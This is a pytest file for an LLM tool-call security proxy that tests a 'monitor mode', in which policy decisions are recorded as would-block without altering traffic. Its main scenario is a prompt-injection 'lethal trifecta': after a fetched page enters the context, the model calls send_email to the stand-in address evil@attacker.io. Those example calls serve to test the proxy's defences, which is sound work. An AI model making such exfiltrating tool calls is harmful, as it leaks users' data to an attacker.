"""Monitor mode (issue 19): every decision is made and recorded as in enforce mode, marked would-block, and
nothing changes on the wire; in every provider family, streamed and not, through each provider's real SDK."""
from __future__ import annotations

import textwrap

import openai
import pytest

from tests.fakes import responses_wire
from tests.fakes.server import json_reply, sse_reply
from tests.live import live as live_fixture
from tests.security_drivers import DRIVERS, PAGE, OpenAIDriver, explained

live = live_fixture  # the two-worker gunicorn, as the fixture ``live``
EVIL = {"to": "evil@attacker.io"}


@pytest.fixture(autouse=True)
def bedrock_key(monkeypatch):
    monkeypatch.setenv("AWS_BEARER_TOKEN_BEDROCK", "bedrock-key")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")


def default_profile(proxy) -> str:
    return proxy.api("GET", "/profiles").json()["data"][0]["id"]


def set_mode(proxy, profile_id: str, mode: str | None) -> None:
    answer = proxy.api("PATCH", f"/profiles/{profile_id}", json={"mode": mode})
    assert answer.status_code == 200 and answer.json()["mode"] == mode, answer.text


def interactions(proxy, profile_id: str) -> list[dict]:
    return proxy.api("GET", "/interactions", params={"profile_id": profile_id}).json()["data"]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("driver", DRIVERS, ids=[d.provider for d in DRIVERS])
def test_monitor_mode_passes_the_trifecta_and_records_would_block(make_proxy, tls_cert, upstream, driver, stream):
    proxy = make_proxy(tls=tls_cert) if getattr(driver, "tls", False) else make_proxy()
    profile = default_profile(proxy)
    set_mode(proxy, profile, "monitor")

    # The lethal trifecta: a fetched page in the context, then a mail to the attacker. It goes through as the
    # upstream sent it, and the upstream received the request as the client sent it.
    upstream.reply_with(driver.reply(stream, EVIL))
    outcome = driver.ask(proxy, stream, with_result=True)
    assert outcome.calls == [("send_email", EVIL)]
    assert "denied by a tool invocation policy" not in outcome.text
    assert PAGE in driver.sent_result(upstream.received[-1].json)

    # Recorded exactly as enforce mode would have refused it, marked would-block.
    proxy.flush()
    [row] = proxy.api("GET", "/blocked-tool-calls").json()["data"]
    assert (row["tool"], row["arguments"], row["reason"], row["would_block"]) == (
        "send_email", EVIL, explained(driver), True)
    [interaction] = interactions(proxy, profile)
    assert interaction["blocked_count"] == 0 and not interaction["blocked"]
    assert interaction["would_block_count"] == 1
    assert [row["id"] for row in proxy.api("GET", "/interactions", params={"would_block": "true"}).json()[
        "data"]] == [interaction["id"]]
    assert proxy.api("GET", "/interactions", params={"blocked": "true"}).json()["data"] == []
    assert [(b["tool"], b["reason"]) for b in interaction["flags"]["would_block"]] == [
        ("send_email", explained(driver))]

    # Enforce mode, same request: refused with the very reason monitor mode recorded.
    set_mode(proxy, profile, "enforce")
    upstream.reply_with(driver.reply(stream, EVIL))
    outcome = driver.ask(proxy, stream, with_result=True)
    assert outcome.calls == [] and outcome.text.endswith(explained(driver))


def test_monitor_mode_never_blocks_content_and_records_it(proxy, upstream):
    """A block_always result policy in monitor mode: the page reaches the upstream unchanged; the interaction
    says which result would have been blocked. The global setting turns monitor mode on for every profile that
    does not choose."""
    driver = OpenAIDriver("openai")
    upstream.reply_with(driver.text_reply("ok"))
    driver.ask(proxy, False, with_result=True)  # discovers the tools
    proxy.flush()
    fetch = proxy.api("GET", "/tools", params={"name": "fetch_url"}).json()["data"][0]["id"]
    assert proxy.api("POST", "/tool-result-policies", json={"tool_id": fetch, "action": "block_always",
                                                            "reason": "no web pages"}).status_code == 201
    assert proxy.api("PATCH", "/settings", json={"mode": "monitor"}).json() == {
        "global_policy": "restrictive", "mode": "monitor"}
    upstream.reply_with(driver.text_reply("ok"))
    assert driver.ask(proxy, False, with_result=True).text == "ok"
    assert driver.sent_result(upstream.received[-1].json) == PAGE
    proxy.flush()
    flags = interactions(proxy, default_profile(proxy))[0]["flags"]
    assert flags["would_block_results"] == [{"tool": "fetch_url", "tool_call_id": "call_f",
                                             "action": "block_always", "reason": "no web pages"}]
    # A profile's own mode wins over the setting.
    set_mode(proxy, default_profile(proxy), "enforce")
    upstream.reply_with(driver.text_reply("ok"))
    driver.ask(proxy, False, with_result=True)
    assert driver.sent_result(upstream.received[-1].json) == "[Content blocked by policy: no web pages]"
    assert proxy.api("PATCH", "/settings", json={"mode": "watch"}).status_code == 400


RESPONSES_TOOLS = [{"type": "function", "name": n, "description": n, "parameters": {"type": "object"},
                    "strict": False} for n in ("fetch_url", "send_email")]
HISTORY = [{"role": "user", "content": "Summarize the page"},
           responses_wire.function_call("fetch_url", {"url": "https://x.io"}, "call_fetch1"),
           {"type": "function_call_output", "call_id": "call_fetch1", "output": PAGE}]


def mail_calls(live, pid: str, stream: bool) -> list[str]:
    """After a fetched page, the model mails the attacker (Responses API): the calls the client receives."""
    client = openai.OpenAI(api_key="k", base_url=live.base("openai", pid), max_retries=0)
    email = responses_wire.function_call("send_email", EVIL, "call_mail1")
    if stream:
        live.upstream.reply_with(sse_reply(responses_wire.stream([email])))
        with client.responses.stream(model="gpt-5.1", input=HISTORY, tools=RESPONSES_TOOLS) as events:
            answer = events.get_final_response()
    else:
        live.upstream.reply_with(json_reply(responses_wire.response([email])))
        answer = client.responses.create(model="gpt-5.1", input=HISTORY, tools=RESPONSES_TOOLS)
    return [item.name for item in answer.output if item.type == "function_call"]


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_switching_mode_applies_to_the_next_request_on_every_worker(live, stream):
    """The Responses API family on the two-worker gunicorn: each switch holds for every following request,
    whichever worker serves it."""
    pid = live.profile(mode="monitor")
    for mode, expected in [("monitor", ["send_email"]), ("enforce", []), ("monitor", ["send_email"])]:
        assert live.api("PATCH", f"/profiles/{pid}", json={"mode": mode}).status_code == 200
        assert [mail_calls(live, pid, stream) for _ in range(4)] == [expected] * 4, mode
    rows = live.blocked(pid, 12)
    assert sorted(row["would_block"] for row in rows) == [False] * 4 + [True] * 8


OPERATOR_HOOKS = """
    from archestra.hooks import Block

    def on_request(exchange):
        if any("codeword" in (message.text or "") for message in exchange.messages):
            raise Block("no codewords in prompts")

    def on_response(exchange):
        if "classified" in (exchange.response.text or ""):
            raise Block("no classified answers")
"""


def test_monitor_mode_records_refusals_of_the_operators_own_hooks_and_changes_nothing(tmp_path, make_proxy,
                                                                                      upstream):
    hooks = tmp_path / "operator_hooks.py"
    hooks.write_text(textwrap.dedent(OPERATOR_HOOKS))
    proxy = make_proxy(hooks=str(hooks))
    profile = default_profile(proxy)
    driver = OpenAIDriver("openai")
    client = openai.OpenAI(api_key="k", base_url=proxy.base("openai"), max_retries=0)

    def ask(prompt: str) -> str:
        return client.chat.completions.create(model="m", messages=[{"role": "user", "content": prompt}]) \
            .choices[0].message.content

    set_mode(proxy, profile, "monitor")
    upstream.reply_with(driver.text_reply("fine"))
    assert ask("the codeword is swordfish") == "fine"
    assert upstream.received[-1].json["messages"][0]["content"] == "the codeword is swordfish"
    upstream.reply_with(driver.text_reply("this is classified"))
    assert ask("hello") == "this is classified"
    proxy.flush()
    rows = {row["flags"]["would_refuse"][0]["stage"]: row
            for row in proxy.api("GET", "/interactions", params={"would_block": "true"}).json()["data"]}
    assert {stage: (row["flags"]["would_refuse"], row["would_block_count"], row["status_code"], row["refusal"])
            for stage, row in rows.items()} == {
        "on_request": ([{"stage": "on_request", "reason": "no codewords in prompts"}], 1, 200, None),
        "on_response": ([{"stage": "on_response", "reason": "no classified answers"}], 1, 200, None)}

    # Enforce mode: the same two exchanges are refused by the same hooks.
    set_mode(proxy, profile, "enforce")
    sent = len(upstream.received)
    with pytest.raises(openai.PermissionDeniedError, match="no codewords in prompts"):
        ask("the codeword is swordfish")
    assert len(upstream.received) == sent
    upstream.reply_with(driver.text_reply("this is classified"))
    with pytest.raises(openai.PermissionDeniedError, match="no classified answers"):
        ask("hello")


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_the_global_monitor_switch_applies_to_the_next_request_on_every_worker(live, stream):
    """Profiles that do not choose follow /api/settings: on the two-worker gunicorn, each switch holds for every
    following request, whichever worker serves it; a profile's own mode still wins."""
    follows, enforced = live.profile(), live.profile(mode="enforce")
    try:
        for mode, expected in [("monitor", ["send_email"]), ("enforce", []), ("monitor", ["send_email"])]:
            assert live.api("PATCH", "/settings", json={"mode": mode}).json()["mode"] == mode
            assert [mail_calls(live, follows, stream) for _ in range(4)] == [expected] * 4, mode
            assert [mail_calls(live, enforced, stream) for _ in range(2)] == [[]] * 2, mode
    finally:
        live.api("PATCH", "/settings", json={"mode": "enforce"})
    assert sorted(row["would_block"] for row in live.blocked(follows, 12)) == [False] * 4 + [True] * 8
